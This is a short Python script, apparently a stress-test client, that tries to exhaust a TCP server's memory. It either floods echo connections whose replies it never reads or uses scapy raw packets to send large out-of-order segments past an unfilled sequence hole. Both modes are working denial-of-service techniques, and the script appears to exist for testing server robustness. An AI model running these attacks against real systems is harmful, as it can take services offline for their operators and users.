#!/usr/bin/env python3
"""A client that tries to make the daemon hold memory for it.

  hostile_client.py unread HOST PORT COUNT MBYTES [HOLD]
      COUNT connections to an echo service, each sending MBYTES and never
      reading what comes back (the echo must queue it, or stop reading);
      it stops sending once no window has opened for 2 s, then holds the
      connections HOLD seconds (default 3).
  hostile_client.py ooseq HOST PORT COUNT
      COUNT handshakes made with raw packets (scapy), then on each 60 segments
      of 60000 bytes that all lie past a hole the client never fills, so the
      server can only keep them as out-of-order data.
Prints one line saying what it sent; it does not wait for anything after."""
import socket, sys, time


def unread(host, port, count, mbytes):
    socks = []
    chunk = b"z" * 65536
    for _ in range(count):
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        socks.append([s, mbytes << 20])
    last = time.monotonic()
    while any(left for _, left in socks) and time.monotonic() - last < 2:
        progress = False
        for entry in socks:
            s, left = entry
            if not left:
                continue
            try:
                n = s.send(chunk[: min(len(chunk), left)])
                entry[1] -= n
                progress = True
            except BlockingIOError:
                pass
        if progress:
            last = time.monotonic()
        else:
            time.sleep(0.05)  # every window is shut: what we sent is all the server will take
    sent = sum((mbytes << 20) - left for _, left in socks)
    print(f"unread: {count} connections, {sent >> 20} MiB sent, none read", flush=True)
    time.sleep(float(sys.argv[6]) if len(sys.argv) > 6 else 3)


def ooseq(host, port, count):
    from scapy.all import IP, TCP, Raw, conf, send, sr1  # noqa: E402
    conf.verb = 0
    payload = b"o" * 60000
    segments = 0
    for i in range(count):
        sport = 30000 + i
        syn = IP(dst=host) / TCP(sport=sport, dport=port, flags="S", seq=1000,
                                 options=[("MSS", 65000), ("WScale", 7), ("SAckOK", b"")])
        synack = sr1(syn, timeout=2)
        if synack is None or not synack.haslayer(TCP) or synack[TCP].flags & 0x12 != 0x12:
            continue
        ack = synack[TCP].seq + 1
        send(IP(dst=host) / TCP(sport=sport, dport=port, flags="A", seq=1001, ack=ack))
        burst = [IP(dst=host) / TCP(sport=sport, dport=port, flags="A", ack=ack,
                                    seq=1001 + 60000 * k) / Raw(payload) for k in range(1, 61)]
        send(burst)
        segments += len(burst)
    print(f"ooseq: {count} handshakes, {segments} segments of 60000 bytes past a hole", flush=True)


if sys.argv[1] == "unread":
    unread(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]))
else:
    ooseq(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
